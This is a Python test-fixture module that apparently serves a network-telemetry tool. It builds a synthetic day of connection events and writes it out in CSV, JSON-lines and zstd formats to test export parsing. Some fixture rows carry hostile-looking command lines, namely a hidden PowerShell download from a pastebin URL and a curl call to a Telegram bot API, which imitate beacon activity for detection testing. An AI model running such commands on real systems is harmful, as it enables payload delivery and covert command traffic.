"""One small day, and every shape of export written from it.

The rows are the reference's validation tests (PowerShell, Python, curl, a scheduled task) with what
readers stumble over: 100 ns ticks, missing values, Unicode, quotes, commas, objects.
"""

import csv
import io
import json
import re
from collections.abc import Callable
from datetime import datetime

import polars as pl

from beacon.schema import EVENTS

TIMES = [name for name, dtype in EVENTS.items() if isinstance(dtype, pl.Datetime)]
TIMELINE = {name: re.sub(r"(?<=[a-z])(?=[A-Z])", " ", name) for name in EVENTS} | {
    "Timestamp": "Event Time",
    "DeviceName": "Computer Name",
    "DeviceId": "Machine Id",
}
"""The device timeline's headers."""

POWERSHELL = 'powershell.exe -WindowStyle Hidden -Command "$c=(iwr https://pastebin.com/raw/X)"'
PYTHON = "python -c \"import time; [print('é, 漢, 😀'), time.sleep(30)]\""
CURL = "curl.exe -s -o C:\\Temp\\tg.txt https://api.telegram.org/bot000:TEST/getUpdates"


def _event(time: str, process: str, pid: int, url: str | None, ip: str, line: str | None, **more):
    row = dict.fromkeys(EVENTS)
    row |= {
        "Timestamp": f"2026-05-{time}",
        "DeviceId": "d1",
        "DeviceName": "ws-014.corp.example",
        "ActionType": "ConnectionSuccess",
        "Protocol": "Tcp",
        "LocalIP": "10.0.0.14",
        "LocalPort": 50211,
        "RemoteIP": ip,
        "RemotePort": 443,
        "RemoteIPType": "Public",
        "RemoteUrl": url,
        "InitiatingProcessFileName": process,
        "InitiatingProcessFolderPath": f"c:\\windows\\{process}",
        "InitiatingProcessId": pid,
        "InitiatingProcessCreationTime": "2026-05-04T18:39:59.123456Z",
        "InitiatingProcessCommandLine": line,
        "InitiatingProcessParentFileName": "cmd.exe",
        "InitiatingProcessParentId": 4800,
        "InitiatingProcessParentCreationTime": "2026-05-04T08:00:00.000001Z",
        "InitiatingProcessParentCommandLine": "cmd.exe",
        "InitiatingProcessAccountDomain": "corp",
        "InitiatingProcessAccountName": "jdoe",
        "InitiatingProcessIntegrityLevel": "Medium",
        "InitiatingProcessSHA1": "6cbce4a295c163791b60fc23d285e6d84f28ee4c",
        "InitiatingProcessVersionInfoCompanyName": "Müller & Söhne",
        "InitiatingProcessVersionInfoOriginalFileName": process,
        "InitiatingProcessUniqueId": f"run-{pid}",
        "ReportId": 100,
    }
    return row | more


GITHUB = "raw.githubusercontent.com"
DAY = [
    _event("04T18:40:00.1000000Z", "powershell.exe", 51, "pastebin.com", "104.20.29.1", POWERSHELL),
    _event("04T18:41:25.3214567Z", "python.exe", 62, GITHUB, "185.199.108.133", PYTHON),
    _event("04T18:41:55.4021100Z", "python.exe", 62, GITHUB, "185.199.110.133", PYTHON),
    _event(
        "04T18:42:25.4000001Z", "python.exe", 62, GITHUB, "185.199.111.1", PYTHON, ReportId=2**40
    ),
    _event("04T18:43:10.0000000Z", "curl.exe", 63, "api.telegram.org", "149.154.167.2", CURL)
    | {"AdditionalFields": '{"direction":"Out","n":1}'},
    _event("04T18:45:00.0500000Z", "powershell.exe", 64, GITHUB, "185.199.109.133", POWERSHELL)
    | {"InitiatingProcessParentFileName": "svchost.exe"},
    _event("04T23:59:59.9999999Z", "wscript.exe", 65, "https://x.com:443/a,b", "8.8.4.4", 'w "a"'),
    _event("13T00:00:00.0000001Z", "cscript.exe", 66, "", "2001:db8::1", ""),
    _event("13T12:00:00.5000000Z", "node.exe", 67, None, "10.0.0.9", None)
    | {"RemoteIPType": None, "LocalPort": None, "ReportId": None},
    _event("13T12:30:00.0000000Z", "my app.exe", 68, "Straße.example", "10.0.0.9", "-")
    | {"ActionType": "ConnectionFailed", "Protocol": "Udp"},
    _event("14T01:02:03.0000000Z", "", 0, None, "8.8.8.8", None)
    | {"ActionType": "DnsConnectionInspected", "InitiatingProcessCreationTime": None},
    _event("14T13:14:15.1230000Z", "svchost.exe", 900, "api.github.com", "140.82.121.6", "svc -k")
    | {"InitiatingProcessParentFileName": None, "RemotePort": None},
]


def frame(rows: list[dict] | None = None) -> pl.DataFrame:
    """The day as canonical events, by the shortest way there is."""
    texts = pl.DataFrame(rows or DAY, schema=dict.fromkeys(EVENTS, pl.String), strict=False)
    return texts.with_columns(
        pl.col(name)
        .str.strip_suffix("Z")
        .str.to_datetime("%Y-%m-%dT%H:%M:%S%.f", time_unit="ns")
        .dt.replace_time_zone("UTC")
        for name in TIMES
    ).cast(EVENTS)


def empty_for_null(day: pl.DataFrame) -> pl.DataFrame:
    """What a format without nulls can carry."""
    return day.with_columns(pl.col(pl.String).fill_null(""))


def to(unit: str) -> Callable[[pl.DataFrame], pl.DataFrame]:
    """What a format of coarser times can carry."""
    return lambda day: day.with_columns(pl.col(pl.Datetime).dt.truncate(unit))


def lines(rows: list, separator: str = "\n") -> bytes:
    return separator.join(json.dumps(row, ensure_ascii=False) for row in rows).encode()


def zstd(content: bytes) -> bytes:
    """A zstd frame of raw blocks (RFC 8878, section 3.1.1): no library is needed to write one."""
    blocks = [content[at : at + 100_000] for at in range(0, len(content), 100_000)]
    last = len(blocks) - 1
    header = b"\x28\xb5\x2f\xfd\xa0" + len(content).to_bytes(4, "little")
    return header + b"".join(
        (len(block) << 3 | (number == last)).to_bytes(3, "little") + block
        for number, block in enumerate(blocks)
    )


def csv_text(
    rows: list[dict], headers: dict[str, str] | None = None, bom: str = "", **text
) -> bytes:
    """CSV with renamed headers and times written by the functions given per column."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    headers = headers or {name: name for name in EVENTS}
    writer.writerow(headers.values())
    for row in rows:
        writer.writerow([text[n](row[n]) if n in text and row[n] else row[n] for n in headers])
    return (bom + out.getvalue()).encode()


def local(pattern: str, milliseconds: bool = True) -> Callable[[str], str]:
    """A time text as a portal writes it: no zone, no leading zeros."""

    def write(text: str) -> str:
        time = datetime.fromisoformat(text)
        hour = time.strftime("%I").lstrip("0")
        second = time.strftime("%S") + (f".{time.microsecond // 1000:03}" if milliseconds else "")
        return pattern.format(time, d=time.day, m=time.month, h=hour, s=second)

    return write
